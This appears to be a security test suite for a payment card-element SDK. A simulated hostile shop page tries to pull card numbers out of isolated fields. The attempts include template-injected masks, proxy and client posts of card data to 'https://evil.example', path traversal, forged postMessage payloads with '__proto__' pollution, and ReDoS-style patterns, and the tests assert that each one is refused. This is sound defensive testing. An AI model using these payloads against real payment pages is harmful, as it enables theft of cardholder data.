// A shop's page that attacks its elements: it learns no digit, counts no keystroke and gets no answers
// about a value from patterns, masks, card types, mirrors or requests.
import assert from 'node:assert/strict';
import { CARD, attempt, elementFrame, lastChange, openTagged, succeeds, typeParts } from '../lib/elements.js';
import { checkNoLeak } from '../lib/fields.js';

export const name = 'elements-hostile';

const NUMBER = { number: "bt.createElement('cardNumber', { targetId: 'number' })" };
const PARTS = {
  ...NUMBER,
  expiry: "bt.createElement('cardExpirationDate', { targetId: 'expiry' })",
  cvc: "bt.createElement('cardVerificationCode', { targetId: 'cvc' })",
  name: "bt.createElement('text', { targetId: 'name', 'aria-label': 'Name' })",
};
const DATA = '{ number: el.number, expiration_month: el.expiry.month(), expiration_year: el.expiry.year(), cvc: el.cvc }';
/** A Visa number whose first thirteen digits are a valid number as well. */
const LONG = '4539280755920048';

const posts = (h, page) => h.traffic(page).filter(({ method }) => method === 'POST' || method === 'PATCH');

const checkRequests = async (h) => {
  const { page, shop } = await openTagged(h, PARTS);
  await typeParts(page, { ...CARD, cvc: '731' });
  await (await elementFrame(page, 'text')).type('#text', 'Katherine');
  const before = posts(h, page).length;
  const attacks = [
    `bt.tokens.create({ type: 'card', data: ${DATA}, id: '{{ data.number }}' })`,
    `bt.tokens.create({ type: 'card', data: ${DATA}, mask: { number: '{{ data.number }}' } })`,
    `bt.tokens.create({ type: 'card', data: ${DATA}, searchIndexes: ['{{ data.number }}'] })`,
    `bt.tokens.create({ type: 'card', data: ${DATA}, fingerprintExpression: '{{ data.number }}' })`,
    `bt.tokens.create({ type: 'card', data: ${DATA}, metadata: { number: el.number } })`,
    `bt.tokens.create({ type: 'card', data: ${DATA}, containers: [el.name] })`,
    'bt.tokens.create({ type: el.name, data: 1 })',
    `bt.tokenIntents.create({ type: 'card', data: ${DATA}, mask: {} })`,
    `bt.tokenize({ a: { type: 'card', data: ${DATA}, mask: { number: '{{ data.number }}' } } })`,
    "bt.tokenize({ token_intent_id: el.name })",
    "bt.proxy.post({ headers: { 'BT-PROXY-URL': 'https://evil.example' }, body: { number: el.number } })",
    "bt.proxy.post({ path: el.name, headers: { 'BT-PROXY-KEY': 'x' } })",
    "bt.proxy.post({ path: '%2e%2e/tokens', body: { type: 'token', data: el.number, mask: '{{ data | slice: 0, 1 }}' } })",
    "bt.proxy.post({ path: '..\\\\tokens', body: { type: 'token', data: el.number } })",
    "bt.proxy.post({ headers: { 'BT-PROXY-KEY': 'x', a: '{{ proxy.request.body | slice: 0, 1 | to_boolean }}' }, body: { number: el.number } })",
    "bt.proxy.post({ headers: { 'BT-PROXY-KEY': 'x', 'content-type': 'text/plain' }, body: { number: el.number } })",
    "bt.client.post('https://evil.example', { number: el.number })",
  ];
  for (const attack of attacks) {
    assert.equal((await attempt(h, page, attack)).error?.name, 'BasisTheoryConfigurationError', attack);
  }
  assert.equal(posts(h, page).length, before, 'nothing was sent');
  // The page makes a token whose mask shows everything, and puts the card into it afterwards.
  const open = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: { n: 1 }, mask: { n: '{{ data.n }}' } })"));
  const late = await attempt(h, page, `bt.tokens.update('${open.id}', { data: { n: el.number } })`);
  assert.match(late.error.message, /that they made/);
  const token = succeeds(await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${DATA}, metadata: { a: '{{ data.number }}' } })`));
  for (const hidden of ['data', 'mask', 'fingerprint', '_extras', 'searchIndexes']) assert.equal(hidden in token, false, hidden);
  assert.deepEqual([token.metadata.a, 'bin' in token.card], ['{{ data.number }}', false]);
  await checkNoLeak(h, page, shop, [CARD.number, '731', 'Katherine']);
  await h.closePage(page);
};

/** The vault repeats an answer whole to whoever names the idempotency key of its request. */
const checkRepeatedAnswer = async (h) => {
  const { page, shop, key } = await openTagged(h, PARTS);
  await typeParts(page, { ...CARD, cvc: '731' });
  const create = `bt.tokens.create({ type: 'card', data: ${DATA} }, { idempotencyKey: 'chosen-by-the-page' })`;
  const token = succeeds(await attempt(h, page, create));
  assert.equal(succeeds(await attempt(h, page, create)).id, token.id, 'a repetition makes no second token');
  const again = await page.evaluate(async (url, apiKey) => {
    const headers = { 'BT-API-KEY': apiKey, 'BT-IDEMPOTENCY-KEY': 'chosen-by-the-page', 'Content-Type': 'application/json' };
    const answer = await fetch(`${url}/tokens`, { method: 'POST', headers, body: '{"type":"token","data":"x"}' });
    return answer.json();
  }, h.vault.url, key);
  assert.notEqual(again.id, token.id, 'the page names another key than the frames sent');
  assert.equal('card' in again, false);
  await checkNoLeak(h, page, shop, [CARD.number, '731']);
  await h.closePage(page);
};

const FORGED = [
  { strongroom: 'collect', ask: 1 }, { strongroom: 'values', ask: 1, field: 'e1', values: {} }, { strongroom: 'watch' }, { strongroom: 'fill', texts: { number: '1' } },
  { strongroom: 'admit', table: {}, texts: {}, style: [], options: {} }, { strongroom: 'update', options: {} }, { strongroom: 'validate' }, { strongroom: 'copied', text: 'x' },
  { strongroom: 'start', key: 'key_test_self_pub_4WbQfP5hKXe9Bb2xM3Wn7a', surface: 'fields' }, { strongroom: 'submit', id: 97, kind: 'token', options: {} },
  { strongroom: 'element', id: 'e1', type: 'text' }, { strongroom: 'element', id: 'e900', type: 'constructor' }, { strongroom: 'element', id: '__proto__', type: 'text' },
  { strongroom: 'join', field: 'e1', kind: 'number' }, { strongroom: 'mirror', id: 'e1', source: 'e1' }, { strongroom: 'mirror', field: 'e1', texts: { number: '1' } },
  { strongroom: 'serve', id: 98, service: '__proto__' }, { strongroom: 'serve', id: 99, service: 'tokens.create', input: { model: { type: 'token', data: { 'strongroom:element': 'e1' }, mask: '{{ data }}' } } },
  { strongroom: 'set', id: 'e1', value: { correlationId: 'x', path: '$' } }, { strongroom: 'state', field: 'e1', state: {} }, 'text', null, [], { strongroom: {} },
];

const checkForged = async (h) => {
  const { page, shop, application } = await openTagged(h, PARTS);
  await typeParts(page, { ...CARD, cvc: '731' });
  await page.evaluate((messages) => {
    for (let at = 0; at < window.frames.length; at += 1) for (const message of messages) window.frames[at].postMessage(message, '*');
  }, FORGED);
  await page.evaluate((messages) => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.src = '/evil';
    frame.onload = () => {
      for (let at = 0; at < window.frames.length; at += 1) {
        for (const message of messages) frame.contentWindow.eval(`parent.frames[${at}].postMessage(${JSON.stringify(message)}, '*')`);
      }
      done();
    };
    document.body.append(frame);
  }), FORGED);
  const token = succeeds(await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${DATA} })`));
  const stored = (await h.api('GET', `/tokens/${token.id}`)).body;
  assert.deepEqual([stored.data.number, stored.created_by], [CARD.number, application]);
  const answers = await page.evaluate(() => window.seen.filter(({ data }) => data.strongroom === 'answer').map(({ data }) => data));
  assert.equal(answers.find(({ id }) => id === 97), undefined);
  for (const id of [98, 99]) assert.equal(answers.find((it) => it.id === id).error.name, 'BasisTheoryConfigurationError');
  assert.deepEqual(await page.evaluate(() => window.caught), [], 'no frame of the shop got a message');
  h.expectComplaint(page, /There is no such element/);
  await checkNoLeak(h, page, shop, [CARD.number, '731']);
  await h.closePage(page);
};

const changesOf = (page) => page.evaluate(() => window.seen.filter(({ data }) => ['change', 'bin', 'height', 'key'].includes(data.strongroom)).length);

const checkKeystrokes = async (h) => {
  const { page, shop } = await openTagged(h, { number: "bt.createElement('cardNumber', { targetId: 'number', validateOnChange: true, skipLuhnValidation: true, binLookup: true, cardTypes: [{ type: 'visa', patterns: [4], lengths: [5, 6, 7] }, { type: 'secret', patterns: [4539] }] })" });
  const frame = await elementFrame(page, 'number');
  h.expectComplaint(page, /400/);
  const before = await changesOf(page);
  for (const key of LONG) {
    await frame.type('#number', key);
    await attempt(h, page, "Promise.allSettled([bt.tokenIntents.create({ type: 'card_number', data: el.number }), el.number.update({ placeholder: String(Math.random()), value: '4' }), el.number.validate(), el.number.clear()])");
  }
  const seen = await changesOf(page) - before;
  assert.ok(seen <= 4, `the page saw ${seen} messages while 16 keys were typed`);
  const brands = await page.evaluate(() => [...new Set(window.events.map(({ cardBrand }) => cardBrand))]);
  assert.ok(!brands.includes('secret'), 'patterns of the page are not asked');
  assert.equal((await frame.$eval('#number', (it) => it.value)).replaceAll(' ', ''), LONG, 'the page changes nothing while a person types');
  await checkNoLeak(h, page, shop, [LONG]);
  await h.closePage(page);
};

const checkHalfTyped = async (h) => {
  const { page, shop } = await openTagged(h, NUMBER);
  const frame = await elementFrame(page, 'number');
  await frame.type('#number', LONG.slice(0, 13));
  const early = await attempt(h, page, "bt.tokens.create({ type: 'card_number', data: el.number })");
  assert.equal(early.error.name, 'BasisTheoryValidationError');
  await page.evaluate(() => { document.activeElement.blur(); document.querySelector('#pay').focus(); });
  await h.until('the end of the beginning', async () => (await lastChange(page, 'number'))?.cardLast4 === LONG.slice(9, 13));
  succeeds(await attempt(h, page, "bt.tokens.create({ type: 'card_number', data: el.number })"));
  await frame.type('#number', LONG.slice(13));
  const late = await attempt(h, page, "bt.tokens.create({ type: 'card_number', data: el.number })");
  assert.match(late.error.message, /other numbers before/);
  assert.equal((await lastChange(page, 'number')).cardLast4, undefined, 'a page learns the end of one number only');
  await checkNoLeak(h, page, shop, [LONG]);
  await h.closePage(page);
};

const checkPatterns = async (h) => {
  const text = (options) => ({ name: `bt.createElement('text', { targetId: 'name', 'aria-label': 'Name', ${options} })` });
  for (const options of ['mask: [/4/, /\\d/]', 'mask: [/[2-9]/]', 'validation: /(a+)+$/', "transform: [/((a*)b)*/, 'x']"]) {
    const { page, failure } = await openTagged(h, text(options));
    assert.equal(failure?.name, 'BasisTheoryConfigurationError', options);
    h.expectComplaint(page, /BasisTheoryConfigurationError/);
    await h.closePage(page);
  }
  const { page, shop } = await openTagged(h, text('validation: /^[0-9]+$/, autoComplete: "cc-number"'));
  const frame = await elementFrame(page, 'text');
  assert.equal(await frame.$eval('#text', (it) => it.autocomplete), 'off', 'browsers fill no card into a text');
  await frame.type('#text', '90210');
  const changed = await attempt(h, page, 'el.name.update({ validation: /^9/ })');
  assert.match(changed.error.message, /fixed/);
  await page.focus('#pay');
  await h.until('the verdict', async () => (await lastChange(page, 'name'))?.valid === true);
  await checkNoLeak(h, page, shop, ['90210']);
  await h.closePage(page);
};

/** A transform that would bring the first digits of a number to its end, where answers show them. */
const checkTransform = async (h) => {
  const { page, shop } = await openTagged(h, { name: "bt.createElement('text', { targetId: 'name', 'aria-label': 'Name', transform: [/^(....)(.*)$/, '$2$1'] })" });
  await (await elementFrame(page, 'text')).type('#text', '4000005555551019');
  h.expectComplaint(page, /400/);
  const { value } = await attempt(h, page, "bt.tokens.create({ type: 'card', data: { number: el.name } })");
  assert.equal(value?.card, undefined);
  await checkNoLeak(h, page, shop, ['4000005555551019']);
  await h.closePage(page);
};

const checkKeys = async (h) => {
  for (const key of ['private', 'management']) {
    const { page, failure } = await openTagged(h, NUMBER, { key: h.vault.keys[key] });
    assert.equal(failure.name, 'BasisTheoryConfigurationError');
    assert.match(failure.message, /secret/);
    assert.equal(h.traffic(page).filter(({ url }) => url.includes('/fields/')).length, 0, 'the key goes nowhere');
    await h.closePage(page);
  }
  const { page, failure } = await openTagged(h, NUMBER, { origins: ['https://shop.example'] });
  h.expectComplaint(page, /403/);
  assert.match(failure.message, /allowed_origins/);
  await h.closePage(page);
};

const checkLedAway = async (h) => {
  for (const which of ['/controller', '/field#number']) {
    const { page, shop } = await openTagged(h, NUMBER);
    h.expectComplaint(page, /Failed to execute 'postMessage'|does not match the recipient|reloaded/);
    await typeParts(page, { number: CARD.number });
    await page.evaluate((path) => new Promise((done) => {
      const frame = [...document.querySelectorAll('iframe')].find((it) => it.src.includes(path));
      frame.addEventListener('load', done);
      frame.src = '/evil';
    }), which);
    const late = h.within('the answer', page.evaluate(() => Promise.race([
      window.attempt(() => window.bt.tokens.create({ type: 'card_number', data: window.el.number })),
      new Promise((done) => { setTimeout(() => done({ error: 'no answer' }), 8_000); }),
    ])));
    assert.ok((await late).error, which);
    assert.deepEqual(await page.evaluate(() => window.caught), []);
    await checkNoLeak(h, page, shop, [CARD.number]);
    await h.closePage(page);
  }
};

export const run = async (h) => {
  await h.step('requests that would leak', () => checkRequests(h));
  await h.step('an answer that is repeated', () => checkRepeatedAnswer(h));
  await h.step('forged messages', () => checkForged(h));
  await h.step('keystrokes cannot be counted', () => checkKeystrokes(h));
  await h.step('a half-typed number', () => checkHalfTyped(h));
  await h.step('patterns of the page', () => checkPatterns(h));
  await h.step('a transform of a number', () => checkTransform(h));
  await h.step('keys and origins that are refused', () => checkKeys(h));
  await h.step('frames are led away', () => checkLedAway(h));
};

/** The part that the tests also run in Firefox. */
export const core = async (h) => {
  await h.step('requests that would leak', () => checkRequests(h));
  await h.step('forged messages', () => checkForged(h));
};
